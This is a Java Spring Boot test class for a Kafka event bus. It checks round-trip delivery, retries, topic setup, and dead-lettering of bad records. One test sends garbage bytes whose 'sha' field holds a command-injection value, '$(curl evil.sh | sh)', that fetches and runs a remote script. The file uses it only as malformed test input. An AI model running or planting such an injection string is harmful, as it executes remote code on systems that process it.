package io.stopbob.platform.bus;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

import io.stopbob.events.DeployRequested;
import io.stopbob.schemas.EventCodec;
import io.stopbob.schemas.EventMother;
import io.stopbob.schemas.Topics;
import io.stopbob.testkit.TopicProbe;
import org.apache.kafka.clients.admin.AdminClient;
import org.apache.kafka.clients.admin.AdminClientConfig;
import org.apache.kafka.clients.admin.TopicDescription;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.core.env.Environment;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What the bus promises every service, run against a real broker: the in-process KRaft
 * broker ({@link EmbeddedBrokerBusTest}) and, where Docker exists, the Apache Kafka image
 * ({@link ContainerBusTest}).
 */
@SpringBootTest(properties = { "stop.catalog.location=classpath:test-catalog.yml", "stop.bus.partitions=2",
		"stop.bus.retry.backoff=50ms", "spring.application.name=bus-test" })
abstract class BusContract {

	private static final Duration WAIT = Duration.ofSeconds(30);

	@Autowired
	private EventPublisher publisher;

	@Autowired
	private BusTestApplication service;

	@Autowired
	private Environment environment;

	private TopicProbe deadLetters;

	@BeforeEach
	void probeDeadLetters() {
		this.service.consumed.clear();
		this.deadLetters = TopicProbe.on(bootstrapServers(), Topics.deadLetter(Topics.DEPLOY_REQUESTED));
	}

	@AfterEach
	void closeProbe() {
		this.deadLetters.close();
	}

	@Test
	void aPublishedEventIsConsumedExactlyAsSentKeyedByItsTarget() throws Exception {
		DeployRequested sent = EventMother.deployRequested("d-roundtrip").build();

		this.publisher.publish(sent);

		ConsumerRecord<String, DeployRequested> received = this.service.consumed.poll(30, TimeUnit.SECONDS);
		assertThat(received).isNotNull();
		assertThat(received.key()).isEqualTo("demo/staging");
		assertThat(received.value()).isEqualTo(sent);
	}

	@Test
	void garbageBytesGoToTheDeadLetterTopicWithTheirReasonAndTheNextRecordIsProcessed() throws Exception {
		byte[] garbage = "{\"sha\":\"$(curl evil.sh | sh)\"}".getBytes(StandardCharsets.UTF_8);
		DeployRequested next = EventMother.deployRequested("d-after-garbage").build();

		sendRaw("demo/staging", garbage);
		this.publisher.publish(next);

		ConsumerRecord<String, byte[]> dead = this.deadLetters
			.await(1, (record) -> "demo/staging".equals(record.key()), WAIT)
			.get(0);
		assertThat(dead.value()).isEqualTo(garbage);
		assertThat(TopicProbe.header(dead, "kafka_dlt-original-topic")).isEqualTo(Topics.DEPLOY_REQUESTED);
		assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER)).contains("NOT_SINGLE_OBJECT");
		assertThat(awaitConsumed("d-after-garbage").value()).isEqualTo(next);
	}

	@Test
	void anUnknownSchemaFingerprintGoesToTheDeadLetterTopicWithItsReason() throws Exception {
		byte[] unknown = EventCodec.standard().encode(EventMother.deployRequested("d-unknown").build());
		ByteBuffer.wrap(unknown, 2, 8).order(ByteOrder.LITTLE_ENDIAN).putLong(42L);

		sendRaw("demo/production", unknown);

		ConsumerRecord<String, byte[]> dead = this.deadLetters
			.await(1, (record) -> "demo/production".equals(record.key()), WAIT)
			.get(0);
		assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER)).contains("UNKNOWN_FINGERPRINT");
	}

	@Test
	void aRecordThatKeepsFailingIsRetriedABoundedNumberOfTimesThenDeadLetteredAsItWas() throws Exception {
		DeployRequested failing = EventMother.deployRequested(BusTestApplication.FAILING_DEPLOY).build();
		DeployRequested next = EventMother.deployRequested("d-after-failure").build();

		this.publisher.publish(failing);
		this.publisher.publish(next);

		ConsumerRecord<String, byte[]> dead = this.deadLetters
			.await(1, (record) -> TopicProbe.decodes(record) && TopicProbe.event(record).equals(failing), WAIT)
			.get(0);
		assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER)).contains("GitHub said 500");
		assertThat(this.service.failingAttempts).hasValue(3);
		assertThat(awaitConsumed("d-after-failure").value()).isEqualTo(next);
	}

	@Test
	void everyTopicAndItsDeadLetterTopicExistWithTheConfiguredPartitions() throws Exception {
		try (AdminClient admin = AdminClient
			.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrapServers()))) {
			List<String> expected = Topics.all()
				.stream()
				.flatMap((topic) -> java.util.stream.Stream.of(topic, Topics.deadLetter(topic)))
				.toList();

			Map<String, TopicDescription> topics = admin.describeTopics(expected).allTopicNames().get();

			assertThat(topics).hasSize(14);
			assertThat(topics.values()).allSatisfy((topic) -> assertThat(topic.partitions()).hasSize(2));
		}
	}

	private String bootstrapServers() {
		return this.environment.getRequiredProperty("spring.kafka.bootstrap-servers");
	}

	private ConsumerRecord<String, DeployRequested> awaitConsumed(String deployId) throws InterruptedException {
		long deadline = System.nanoTime() + WAIT.toNanos();
		while (System.nanoTime() < deadline) {
			ConsumerRecord<String, DeployRequested> record = this.service.consumed.poll(1, TimeUnit.SECONDS);
			if (record != null && record.value().getMeta().getDeployId().equals(deployId)) {
				return record;
			}
		}
		throw new AssertionError(deployId + " was not consumed within " + WAIT);
	}

	private void sendRaw(String key, byte[] value) throws Exception {
		try (KafkaProducer<String, byte[]> producer = new KafkaProducer<>(
				Map.of("bootstrap.servers", bootstrapServers()), new StringSerializer(), new ByteArraySerializer())) {
			producer.send(new ProducerRecord<>(Topics.DEPLOY_REQUESTED, key, value)).get();
		}
	}

}
